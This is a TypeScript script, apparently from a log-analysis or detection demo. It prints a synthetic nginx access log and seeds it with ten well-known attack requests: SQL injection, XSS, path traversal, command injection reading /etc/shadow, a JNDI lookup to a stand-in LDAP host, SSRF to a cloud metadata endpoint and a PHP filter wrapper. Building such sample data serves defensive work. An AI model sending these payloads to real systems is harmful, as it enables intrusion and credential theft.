/**
 * `npm run access-log-sample -- [--requests 240] [--seed 21]`: prints the demo's nginx access log
 * (config/examples/logs/shop-access.log): generated shop traffic (scripts/threat-corpus/shop-traffic.ts) from a
 * dozen visitors, with ten well-known attacks written out here (SQL injection, XSS, traversal, command
 * injection, a JNDI lookup, SSRF to a metadata address, a PHP stream wrapper, scanners) spread through it.
 * Deterministic for a seed.
 */
import { parseArgs } from 'node:util';
import { combinedLine, type ClientRequest } from '../threat-corpus/client-traffic.js';
import { generateShopTraffic } from '../threat-corpus/shop-traffic.js';

const { values } = parseArgs({ options: { requests: { type: 'string', default: '240' }, seed: { type: 'string', default: '21' } } });

const EPOCH = Date.UTC(2026, 10, 2, 9, 0, 0);
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0';

/** Attacks as tools and people send them: path and query percent-encoded as they appear in a log. */
const ATTACKS: readonly Omit<ClientRequest, 't'>[] = [
  { ip: '198.51.100.23', method: 'GET', uri: '/search?q=%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20', status: 200, userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)', referer: undefined, user: undefined },
  { ip: '198.51.100.23', method: 'GET', uri: '/products?id=1%27%20OR%20%271%27%3D%271', status: 200, userAgent: BROWSER, referer: undefined, user: undefined },
  { ip: '203.0.113.77', method: 'GET', uri: '/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd', status: 404, userAgent: BROWSER, referer: undefined, user: undefined },
  { ip: '203.0.113.77', method: 'GET', uri: '/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', status: 200, userAgent: BROWSER, referer: undefined, user: undefined },
  { ip: '203.0.113.77', method: 'GET', uri: '/api/v1/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow', status: 400, userAgent: 'curl/8.5.0', referer: undefined, user: undefined },
  { ip: '192.0.2.200', method: 'GET', uri: '/', status: 200, userAgent: '${jndi:ldap://203.0.113.50:1389/Exploit}', referer: undefined, user: undefined },
  { ip: '192.0.2.200', method: 'GET', uri: '/image?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/', status: 400, userAgent: BROWSER, referer: undefined, user: undefined },
  { ip: '192.0.2.200', method: 'GET', uri: '/index.php?page=php://filter/convert.base64-encode/resource=config', status: 404, userAgent: BROWSER, referer: undefined, user: undefined },
  { ip: '198.51.100.99', method: 'GET', uri: '/.env', status: 404, userAgent: 'Mozilla/5.0 zgrab/0.x', referer: undefined, user: undefined },
  { ip: '198.51.100.99', method: 'GET', uri: '/wp-login.php', status: 404, userAgent: 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)', referer: undefined, user: undefined },
];

const shop = generateShopTraffic(Number(values.requests), Number(values.seed));
const visitors = Array.from({ length: 12 }, (_, i) => `203.0.113.${10 + i}`);
const requests: ClientRequest[] = shop.map((r, i) => ({
  t: i * 1500,
  ip: visitors[(i * 7) % visitors.length] as string,
  method: r.method,
  uri: r.uri,
  status: r.method === 'POST' ? 201 : 200,
  userAgent: r.user_agent,
  referer: r.referer,
  user: undefined,
}));
// One attack every so many ordinary requests, each at the time of the request it follows.
const every = Math.max(1, Math.floor(requests.length / ATTACKS.length));
ATTACKS.forEach((attack, k) => requests.splice((k + 1) * every + k, 0, { ...attack, t: (k + 1) * every * 1500 + 700 }));
process.stdout.write(requests.map((r) => `${combinedLine(r, EPOCH)}\n`).join(''));
